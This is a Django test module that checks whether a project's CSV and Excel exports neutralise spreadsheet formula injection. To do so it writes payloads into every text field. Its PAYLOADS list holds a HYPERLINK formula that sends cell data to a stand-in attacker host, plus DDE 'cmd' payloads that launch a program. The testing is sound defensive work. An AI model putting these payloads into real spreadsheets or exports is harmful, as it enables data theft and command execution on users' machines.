"""Formula injection: a formula planted in every text field an export prints is never live in any export.

Every CharField and TextField of every row is overwritten with a formula (each trigger « = + - @ », tab and
carriage return in turn), then every export of the project is downloaded. A .xlsx holds no formula cell (no
<f> element in the sheet XML, openpyxl reads no « f » cell, the planted texts are text cells with Excel's quote
prefix); a CSV cell never starts with a trigger (the planted texts are behind an apostrophe).
"""

import csv
import io
import zipfile

import pytest
from django.apps import apps
from django.db import IntegrityError, connection, models, transaction
from django.urls import reverse
from openpyxl import load_workbook

from core.exports import FORMULA_TRIGGERS, csv_bytes, csv_cell, is_formula_like
from evaluation.services import reviews as review_services
from tests.accounts.factories import UserFactory
from tests.evaluation.test_reviews import build_plan
from tests.territories.factories import CommuneFactory
from tests.test_access import ROUTES

PAYLOADS = [
    '=HYPERLINK("http://attaquant.example/?v="&A1,"y")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PROJECT_APPS = ("accounts", "territories", "conventions", "actions", "evaluation")
SKIPPED_FIELDS = {"password", "email", "username", "insee_code", "siren", "code"}


def plant_formulas() -> int:
    """Overwrite every free text of every row with a formula; the number of values planted."""
    planted = 0
    for model in apps.get_models():
        if model._meta.app_label not in PROJECT_APPS or model._meta.proxy:
            continue
        fields = [
            f
            for f in model._meta.concrete_fields
            if isinstance(f, models.CharField | models.TextField) and not f.choices and f.name not in SKIPPED_FIELDS
        ]
        if not fields:
            continue
        for pk in model._default_manager.values_list("pk", flat=True):
            for index, field in enumerate(fields):
                value = f"{PAYLOADS[(pk + index) % len(PAYLOADS)]} {pk}"
                if field.max_length:
                    value = value[: field.max_length]
                try:
                    with transaction.atomic():
                        model._default_manager.filter(pk=pk).update(**{field.name: value})
                    planted += 1
                except IntegrityError:  # a unique text cut to its length: another row holds it already
                    pass
    return planted


@pytest.fixture
def planted(convention, adviser):
    build_plan(convention)
    CommuneFactory(departement=convention.caf.departement)  # outside every convention: in the dashboard's export
    review = review_services.review_create(convention=convention, kind="annuel", year=2024, user=adviser)
    count = plant_formulas()
    assert count > 100
    return {"convention": convention, "review": review}


def exports(planted) -> dict[str, str]:
    convention, review = planted["convention"], planted["review"]
    kwargs = {"convention_pk": convention.pk}
    dashboard = reverse("dashboard:export", kwargs={"table": "communes-non-couvertes"})
    return {
        "liste des conventions (CSV)": reverse("conventions:list_export") + "?format=csv",
        "liste des conventions (.xlsx)": reverse("conventions:list_export") + "?format=xlsx",
        "bilan (.xlsx)": reverse("evaluation:review_xlsx", kwargs={**kwargs, "review_pk": review.pk}),
        "tableau de suivi (.xlsx)": reverse("evaluation:tracking_export", kwargs=kwargs),
        "tableau de bord, communes non couvertes (CSV)": dashboard + "?format=csv",
        "tableau de bord, communes non couvertes (.xlsx)": dashboard + "?format=xlsx",
    }


def test_every_export_of_the_project_is_tested():
    """A new export (a URL name saying export, xlsx or csv) must join the list above."""
    names = {name for name in ROUTES if any(word in name for word in ("export", "xlsx", "csv"))}
    assert names == {
        "conventions:list_export",
        "evaluation:review_xlsx",
        "evaluation:tracking_export",
        "dashboard:export",
    }


def live_formulas_xlsx(content: bytes) -> tuple[int, int, list]:
    """(cells holding a planted text, of which neutralised, the live formulas found)."""
    live = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            xml = archive.read(name)
            if name.startswith("xl/worksheets/") and (b"<f>" in xml or b"<f " in xml):
                live.append(name)
    workbook = load_workbook(io.BytesIO(content))
    planted = neutralised = 0
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    live.append(f"{sheet.title}!{cell.coordinate}")
                if is_formula_like(cell.value):
                    planted += 1
                    neutralised += cell.data_type == "s" and cell.quotePrefix
    return planted, neutralised, live


def live_formulas_csv(content: bytes) -> tuple[int, int, list]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    live = [cell for cell in cells if is_formula_like(cell)]
    neutralised = sum(cell.startswith("'") and is_formula_like(cell[1:]) for cell in cells)
    return neutralised + len(live), neutralised, live


def test_no_live_formula_in_any_export(client, planted, adviser):
    client.force_login(adviser)
    results = {}
    for label, address in exports(planted).items():
        response = client.get(address)
        assert response.status_code == 200, label
        check = live_formulas_csv if "CSV" in label else live_formulas_xlsx
        results[label] = check(response.content)
    for label, (found, _neutralised, _live) in results.items():
        assert found >= 1, f"{label} : la formule plantée n'apparaît pas, le test ne prouverait rien"
    clean = [label for label, (found, neutralised, live) in results.items() if not live and neutralised == found]
    print(f"\n0 formule active dans {len(clean)} exports sur {len(results)} : {results}")
    assert len(clean) == len(results) == 6, {label: results[label] for label in results if label not in clean}


def test_csv_cell_rule():
    assert [csv_cell(f"{trigger}x") for trigger in FORMULA_TRIGGERS] == [f"'{t}x" for t in FORMULA_TRIGGERS]
    assert csv_cell("Accès aux droits - 2024") == "Accès aux droits - 2024"  # a dash inside is harmless
    assert csv_cell(-3) == "-3"  # a number is not a text a formula hides in
    assert csv_bytes(header=["a"], rows=[["=1+1"]]).decode("utf-8-sig").splitlines() == ["a", "'=1+1"]


def test_control_characters_do_not_break_an_xlsx(client, convention, adviser):
    # PostgreSQL cannot store a NUL byte in text (and the forms refuse it): only SQLite can hold one to export.
    nul = "" if connection.vendor == "postgresql" else "\x00"
    convention.title = f"Titre{nul} avec\x01 des\x1f contrôles"
    convention.save()
    client.force_login(adviser)
    response = client.get(reverse("conventions:list_export") + "?format=xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet["B2"].value == "Titre avec des contrôles"


def test_planted_texts_keep_their_value_in_the_tableau(client, planted):
    """The tableau de suivi is read back by its import: a neutralised text keeps its exact value."""
    user = UserFactory(cooperation=True)
    planted["convention"].memberships.create(user=user)
    client.force_login(user)
    content = client.get(exports(planted)["tableau de suivi (.xlsx)"]).content
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    texts = [c.value for row in sheet.iter_rows(min_row=2) for c in row if is_formula_like(c.value)]
    assert any(text.startswith('=HYPERLINK("http://attaquant.example/') for text in texts)
